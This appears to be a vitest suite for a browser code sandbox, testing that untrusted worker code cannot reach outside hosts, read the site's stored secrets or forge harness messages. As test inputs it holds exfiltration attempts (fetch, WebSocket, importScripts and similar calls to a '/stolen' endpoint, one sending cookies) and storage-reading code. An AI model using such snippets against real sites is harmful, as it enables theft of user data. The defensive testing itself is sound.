import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { BrowserDefences } from "./browser-defences.ts";
import { browserFixture, commit } from "./testing/browser.ts";
import { openSite, type SandboxSite } from "./testing/site.ts";

const { site, page } = browserFixture();
let elsewhere: SandboxSite;

beforeAll(async () => {
  elsewhere = await openSite();
  await page().evaluate(putSecrets);
});
afterAll(() => elsewhere.close());
beforeEach(() => {
  site().reached.length = 0;
  elsewhere.reached.length = 0;
});

/** Everywhere a site keeps what concerns no other site. */
async function putSecrets(): Promise<void> {
  const cache = await caches.open("kept");
  await cache.put("/kept", new Response("secret"));
  await new Promise<void>((resolve) => {
    const request = indexedDB.open("kept", 1);
    request.onupgradeneeded = () => request.result.createObjectStore("kept").put("secret", "token");
    request.onsuccess = () => {
      request.result.close();
      resolve();
    };
  });
  const channel = new BroadcastChannel("kept");
  channel.onmessage = ({ data }) => {
    document.title = `told: ${data}`;
    channel.postMessage("secret");
  };
}

/** Top-level code is awaited, so an attempt has ended when `f` is called. */
function attempt(code: string): string {
  return `let found = 0;
const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 1000))]);
try { ${code} } catch {}
export const f = () => found;`;
}

interface Setting {
  readonly defences?: Partial<BrowserDefences>;
  readonly frameUrl?: string;
}

const namesKept: Setting = { defences: { removedWorkerGlobals: false } };
const noPolicy: Setting = { frameUrl: "/sandbox-without-policy" };
const limits = { callMs: 5000 };

describe("a program reaches nothing outside", () => {
  const attempts: Record<string, (origin: string) => string> = {
    fetch: (origin) => `await within(fetch("${origin}/stolen"));`,
    "fetch with cookies": (origin) => `await within(fetch("${origin}/stolen", { credentials: "include" }));`,
    "a new XMLHttpRequest": (origin) =>
      `const x = new XMLHttpRequest(); x.open("GET", "${origin}/stolen", false); x.send();`,
    "a new WebSocket": (origin) =>
      `const s = new WebSocket("${origin.replace("http", "ws")}/stolen"); await within(new Promise((done) => { s.onerror = s.onclose = done; }));`,
    "a new EventSource": (origin) =>
      `const s = new EventSource("${origin}/stolen"); await within(new Promise((done) => { s.onerror = s.onopen = done; }));`,
    importScripts: (origin) => `importScripts("${origin}/stolen");`,
    "import()": (origin) => `await within(import("${origin}/stolen"));`,
    "a font": (origin) => `await within(new FontFace("f", "url(${origin}/stolen)").load());`,
    "a worker of its own": (origin) => `
      const code = 'importScripts("${origin}/stolen"); postMessage(0);';
      const w = new Worker(URL.createObjectURL(new Blob([code])));
      await within(new Promise((done) => { w.onerror = w.onmessage = done; }));`,
  };
  const cases = Object.entries(attempts).flatMap(([name, code]) =>
    (["the same site", "another site"] as const).map((where) => ({ name, where, code })),
  );

  const run = (setting: Setting, { where, code }: (typeof cases)[number]) => {
    const { url } = where === "the same site" ? site() : elsewhere;
    return commit(page(), { source: attempt(code(url)), limits, ...setting });
  };
  const reached = () => [...site().reached, ...elsewhere.reached];

  test.each(cases)("$name, $where", async (one) => {
    await run({}, one);
    expect(reached()).toEqual([]);
  });

  test.each(cases)("$name, $where: by the policy alone", async (one) => {
    await run(namesKept, one);
    expect(reached()).toEqual([]);
  });

  // What is syntax has no name that could be taken away.
  const named = cases.filter(({ name }) => name !== "import()");
  test.each(named)("$name, $where: by its missing name alone", async (one) => {
    await run(noPolicy, one);
    expect(reached()).toEqual([]);
  });

  test.each(cases)("$name, $where: with neither it gets through", async (one) => {
    await run({ ...namesKept, ...noPolicy }, one);
    expect(reached()).toEqual([expect.stringContaining("/stolen")]);
  });

  test("a static import", async () => {
    const source = `import "${site().url}/stolen"; export const f = () => 0;`;
    expect(await commit(page(), { source })).toMatchObject({ status: "blocked" });
    expect(reached()).toEqual([]);
    await commit(page(), { source, ...noPolicy });
    expect(reached()).toEqual(["/stolen"]);
  });

  test("a beacon: a worker has none, with all its names", async () => {
    const source = "export const f = () => ('sendBeacon' in navigator ? 1 : 0);";
    expect(await commit(page(), { source, ...namesKept })).toMatchObject({ value: 0 });
    expect(await commit(page(), { source })).toMatchObject({ status: "blocked", capability: "navigator" });
  });
});

describe("a program reads nothing of the site", () => {
  const attempts: Record<string, string> = {
    "the database": `
      const request = indexedDB.open("kept", 1);
      await within(new Promise((done, fail) => { request.onsuccess = done; request.onerror = fail; }));
      const get = request.result.transaction("kept").objectStore("kept").get("token");
      await within(new Promise((done) => { get.onsuccess = done; }));
      if (get.result === "secret") found = 1;`,
    "the cache": `
      const cache = await within(caches.open("kept"));
      const [request] = await within(cache.keys());
      const kept = await within(cache.match(request));
      if ((await kept.text()) === "secret") found = 1;`,
    "the broadcasts": `
      const channel = new BroadcastChannel("kept");
      const heard = new Promise((done) => { channel.onmessage = ({ data }) => done(data); });
      channel.postMessage("forged");
      if ((await within(heard)) === "secret") found = 1;`,
  };
  const cases = Object.entries(attempts).map(([name, code]) => ({ name, source: attempt(code) }));
  const sameOrigin: Setting = { ...noPolicy, defences: { opaqueOrigin: false } };

  beforeEach(() =>
    page().evaluate(() => {
      document.title = "untouched";
    }),
  );
  const title = () => page().title();

  test.each(cases)("$name", async ({ source }) => {
    expect(await commit(page(), { source, limits })).toMatchObject({ value: 0 });
    expect(await title()).toBe("untouched");
  });

  test.each(cases)("$name: by the frame's own origin alone", async ({ source }) => {
    expect(await commit(page(), { source, limits, ...namesKept, ...noPolicy })).toMatchObject({ value: 0 });
    expect(await title()).toBe("untouched");
  });

  test.each(cases)("$name: by the policy alone, whatever frame it is in", async ({ source }) => {
    const defences = { opaqueOrigin: false, removedWorkerGlobals: false };
    expect(await commit(page(), { source, limits, defences })).toMatchObject({ value: 0 });
    expect(await title()).toBe("untouched");
  });

  test.each(cases)("$name: by its missing name alone", async ({ source }) => {
    expect(await commit(page(), { source, limits, ...sameOrigin })).toMatchObject({ value: 0 });
    expect(await title()).toBe("untouched");
  });

  test.each(cases)("$name: with none of these it gets through", async ({ source }) => {
    const defences = { opaqueOrigin: false, removedWorkerGlobals: false };
    expect(await commit(page(), { source, limits, ...noPolicy, defences })).toMatchObject({ value: 1 });
  });

  test("cookies go with no request of the frame, and would with those of the page's origin", async () => {
    const source = attempt(`await within(fetch("${site().url}/stolen", { credentials: "include" }));`);
    await commit(page(), { source, limits, ...namesKept, ...noPolicy });
    expect(site().reached).toEqual(["/stolen"]);
    site().reached.length = 0;
    const defences = { opaqueOrigin: false, removedWorkerGlobals: false };
    await commit(page(), { source, limits, ...noPolicy, defences });
    expect(site().reached).toEqual(["/stolen with session=secret"]);
  });

  test.each(["document", "localStorage", "sessionStorage", "window", "parent"])(
    "%s is not there",
    async (name) => {
      const source = `export const f = () => (typeof ${name} === "undefined" ? 0 : 1);`;
      expect(await commit(page(), { source, ...namesKept, ...noPolicy })).toMatchObject({ value: 0 });
    },
  );
});

test("of a worker's own names none is left", async () => {
  const source = `export const f = () => {
    const found = [];
    for (let holder = globalThis; holder !== null; holder = Object.getPrototypeOf(holder))
      if (holder !== Object.prototype) found.push(...Object.getOwnPropertyNames(holder));
    const language = /^(?:[A-Z]\\w*(?:Error|Array|Map|Set|Stack)|Array(?:Buffer)?|BigInt|Boolean|DataView|Date|Error|Function|Infinity|Iterator|JSON|Map|Math|NaN|Number|Object|Promise|Proxy|Reflect|RegExp|Set|String|Symbol|console|decodeURI\\w*|encodeURI\\w*|escape|globalThis|isFinite|isNaN|parseFloat|parseInt|undefined|unescape)$/;
    // The harness has put its own in the place of the worker's, which copies expressions too.
    const isOurs = (name) => {
      if (name !== "structuredClone") return false;
      try { return structuredClone(/x/) === undefined; } catch { return true; }
    };
    return found.filter((name) => !language.test(name) && !isOurs(name) && typeof globalThis[name] !== "number").join();
  };`;
  expect(await commit(page(), { source })).toMatchObject({ value: "" });
  expect(await commit(page(), { source, ...namesKept })).toMatchObject({
    value: expect.stringContaining("importScripts"),
  });
});

describe("forged messages", () => {
  /** With its names kept, a program can lie in wait for the harness' next message. */
  const forging = (forge: string) => `
    const { postMessage } = MessagePort.prototype;
    const send = (port, message) => Reflect.apply(postMessage, port, [message]);
    MessagePort.prototype.postMessage = function (message) { ${forge} };
    export const f = () => 7;`;
  const wrongId = forging("send(this, { ...message, id: message.id + 1 });");

  test("without the names there is no port to forge with", async () => {
    expect(await commit(page(), { source: wrongId })).toMatchObject({
      status: "threw",
      name: "ReferenceError",
    });
  });

  test.each([
    ["a reply to another request", "send(this, { ...message, id: message.id + 1 });"],
    ["text", "send(this, 'returned');"],
    ["nothing", "send(this, null);"],
    ["a payload that is none", "send(this, { ...message, payload: [1, 2, 3] });"],
    ["a payload that is too large", "send(this, { ...message, payload: new Uint8Array(2 ** 26) });"],
    ["a payload that is cut off", "send(this, { ...message, payload: message.payload.slice(0, -1) });"],
    ["a kind that is none", "send(this, { ...message, kind: 99 });"],
    [
      "shared memory",
      "send(this, { ...message, payload: new Uint8Array(new WebAssembly.Memory({ initial: 1 }).buffer) });",
    ],
  ])("%s is a failed run", async (_, forge) => {
    const defences = { removedWorkerGlobals: false, removedGlobals: false };
    const outcome = await commit(page(), { source: forging(forge), defences, limits });
    expect(outcome.status).toBe("fault");
  });

  test("with no look at what a message is, the reply to another request counts", async () => {
    const defences = { removedWorkerGlobals: false, strictReplies: false };
    expect(await commit(page(), { source: wrongId, defences })).toMatchObject({
      status: "returned",
      value: 7,
    });
  });
});
